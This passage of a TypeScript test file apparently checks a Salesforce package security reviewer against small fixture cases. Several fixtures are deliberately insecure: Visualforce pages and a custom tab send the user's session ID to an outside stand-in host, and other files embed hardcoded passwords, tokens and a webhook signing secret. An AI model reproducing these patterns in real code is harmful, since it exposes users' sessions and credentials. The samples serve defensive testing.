      "public class M { void go(){ HttpRequest r=new HttpRequest(); r.setMethod('GET'); r.setEndpoint(URL.getOrgDomainUrl().toExternalForm()+'/services/data/v60.0/ui-api/object-info/Account'); r.setHeader('Authorization','Bearer '+UserInfo.getSessionId()); new Http().send(r);} }"
    ),
  },
  {
    n: 'apexrest',
    c: S,
    v: ok,
    f: cls(
      'M',
      "public class M { void go(){ HttpRequest r=new HttpRequest(); r.setMethod('GET'); r.setEndpoint(URL.getOrgDomainUrl().toExternalForm()+'/services/apexrest/acme/x'); r.setHeader('Authorization','Bearer '+UserInfo.getSessionId()); new Http().send(r);} }"
    ),
  },
  {
    n: 'page-content-token',
    c: S,
    v: bad,
    f: {
      ...page('Sid', '<apex:page>{!$Api.Session_ID}</apex:page>'),
      ...cls(
        'M',
        "public class M { void go(){ String s = Page.Sid.getContent().toString(); HttpRequest r=new HttpRequest(); r.setMethod('POST'); r.setEndpoint(URL.getOrgDomainUrl().toExternalForm()+'/services/Soap/m/60.0'); r.setHeader('Authorization','Bearer '+s); r.setBody('<x/>'); new Http().send(r);} }"
      ),
    },
  },
  {
    n: 'vf-iframe',
    c: S,
    v: bad,
    f: page(
      'T',
      '<apex:page><apex:iframe src="https://app.acme.example/embed?session={!$Api.Session_ID}&url={!$Api.Partner_Server_URL_260}"/></apex:page>'
    ),
    k: 'violation',
  },
  {
    n: 'vf-hidden-form',
    c: S,
    v: bad,
    f: page(
      'T',
      '<apex:page><form action="https://app.acme.example/in" method="post"><input type="hidden" name="sid" value="{!$Api.Session_ID}"/></form></apex:page>'
    ),
    k: 'violation',
  },
  {
    n: 'quickaction-url',
    c: S,
    v: bad,
    f: meta(
      'tabs',
      'W.tab-meta.xml',
      'CustomTab',
      '<frameHeight>600</frameHeight><hasSidebar>true</hasSidebar><label>W</label><motif>Custom1: Heart</motif><url>https://app.acme.example/tab?sid={!API.Session_ID}</url><urlEncodingKey>UTF-8</urlEncodingKey>'
    ),
  },
  {
    n: 'cs-soap-ref',
    c: U,
    v: bad,
    f: cls('A', 'public class A {}'),
    i: {
      'a.cs':
        'using Acme.SforceService;\nclass A { void Go() { SforceService binding = new SforceService(); LoginResult r = binding.login(user, pass + token); } }\n',
    },
  },
  {
    n: 'kotlin-okhttp',
    c: U,
    v: bad,
    f: cls('A', 'public class A {}'),
    i: {
      'A.kt':
        'fun login(): String { val b = FormBody.Builder().add("grant_type", "password").add("username", u).add("password", p).build()\n return client.newCall(Request.Builder().url("https://login.salesforce.com/services/oauth2/token").post(b).build()).execute().body!!.string() }\n',
    },
  },
  {
    n: 'py-requests-const',
    c: U,
    v: gap,
    f: cls('A', 'public class A {}'),
    i: {
      'consts.py': "GRANT = 'password'\nTOKEN_URL = 'https://test.salesforce.com/services/oauth2/token'\n",
      'a.py':
        "import requests\nfrom consts import GRANT, TOKEN_URL\nrequests.post(TOKEN_URL, data={'grant_type': GRANT, 'username': u, 'password': p})\n",
    },
  },
  {
    n: 'gh-action-sfdx-auth',
    c: U,
    v: ['pass', 'not-applicable', 'inconclusive'],
    f: cls('A', 'public class A {}'),
    i: {
      'ci.yml':
        'jobs:\n  a:\n    steps:\n      - run: sf org login jwt --client-id $ID --jwt-key-file k --username $U\n',
    },
  },
  {
    n: 'ps1',
    c: U,
    v: bad,
    f: cls('A', 'public class A {}'),
    i: {
      'a.ps1':
        "$body = @{ grant_type='password'; client_id=$id; client_secret=$s; username=$u; password=$p }\nInvoke-RestMethod -Uri 'https://login.salesforce.com/services/oauth2/token' -Method Post -Body $body\n",
    },
  },
  {
    n: 'dataloader-props',
    c: U,
    v: gap,
    f: cls('A', 'public class A {}'),
    i: {
      'process-conf.xml':
        '<beans><bean id="x" class="com.salesforce.dataloader.process.ProcessRunner"><property name="configOverrideMap"><map><entry key="sfdc.endpoint" value="https://login.salesforce.com"/><entry key="sfdc.username" value="u@x.example"/><entry key="sfdc.password" value="e8a68b73992a7a54"/></map></property></bean></beans>',
    },
  },
  {
    n: 'env-yaml-mule',
    c: U,
    v: gap,
    f: cls('A', 'public class A {}'),
    i: {
      'mule.xml':
        '<mule xmlns:salesforce="http://www.mulesoft.org/schema/mule/salesforce"><salesforce:sfdc-config name="c"><salesforce:basic-connection username="${u}" password="${p}" securityToken="${t}"/></salesforce:sfdc-config></mule>',
    },
  },
  {
    n: 'vf-remoting-token-label',
    c: X,
    v: bad,
    f: meta(
      'labels',
      'CustomLabels.labels-meta.xml',
      'CustomLabels',
      '<labels><fullName>Api_Token</fullName><language>en_US</language><protected>true</protected><shortDescription>p</shortDescription><value>9f8e7d6c5b4a39281706f5e4d3c2b1a0</value></labels>'
    ),
  },
  {
    n: 'cmdt-public-secret',
    c: 'packaged-secrets-protected',
    v: bad,
    f: {
      ...meta(
        'objects/Cfg__mdt',
        'Cfg__mdt.object-meta.xml',
        'CustomObject',
        '<label>C</label><pluralLabel>C</pluralLabel><visibility>Public</visibility>'
      ),
      ...field('Cfg__mdt', 'Signing_Secret__c'),
      ...meta(
        'customMetadata',
        'Cfg.A.md-meta.xml',
        'CustomMetadata',
        '<label>A</label><protected>false</protected><values><field>Signing_Secret__c</field><value xsi:type="xsd:string" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema">whsec_aB3dE5gH7jK9mN1pQ3sT5vW7</value></values>'
      ),
    },
  },
  {
    n: 'token-object',
    c: 'tokens-stored-securely',
    v: bad,
    f: {
      ...meta(
        'objects/Conn__c',
        'Conn__c.object-meta.xml',
        'CustomObject',
        '<deploymentStatus>Deployed</deploymentStatus><label>C</label><nameField><label>N</label><type>Text</type></nameField><pluralLabel>C</pluralLabel><sharingModel>ReadWrite</sharingModel>'
      ),
      ...field('Conn__c', 'Refresh_Token__c'),
    },
  },
];

async function put(base: string, files: Files): Promise<void> {
  for (const [path, text] of Object.entries(files)) {
    const file = join(base, path);
    // eslint-disable-next-line no-await-in-loop -- a handful of files
    await mkdir(dirname(file), { recursive: true });
    // eslint-disable-next-line no-await-in-loop
    await writeFile(file, text);
  }
}

const PROJECT = JSON.stringify({
  packageDirectories: [{ path: 'force-app', default: true, package: 'X', versionNumber: '1.0.0.NEXT' }],
  namespace: 'acme',
  sourceApiVersion: '60.0',
});

describe('variants of ordinary code', () => {
  for (const { n, f, i, c, v, k } of cases) {
    it(`${n}: ${c} is ${[...v].join(' or ')}${k === undefined ? '' : ` (${k})`}`, async () => {
      const root = await mkdtemp(join(tmpdir(), 'variant-'));
      try {
        await put(join(root, 'src'), { 'sfdx-project.json': PROJECT, ...cls('Hello', 'public class Hello { }'), ...f });
        if (i) await put(join(root, 'integ'), i);
        const source = await openPackage(join(root, 'src'));
        const integrations = await openIntegrations(
          i ? [join(root, 'integ')] : [],
          emptyPolicy.integrations,
          undefined
        );
        const { results } = await review(
          packageDomain,
          { ...source, integrations },
          {
            target: { kind: 'package', name: 'variant' },
            policy: emptyPolicy,
            asOf: new Date('2026-11-29'),
            audited: [],
          }
        );
        const result = results.find(({ control }) => control.id === `package/${c}`);
        expect(v, JSON.stringify(result?.findings)).to.include(result?.verdict);
        if (k !== undefined) expect(result?.findings.map(({ kind }) => kind)).to.include(k);
      } finally {
        await rm(root, { recursive: true });
      }
    });
  }
});
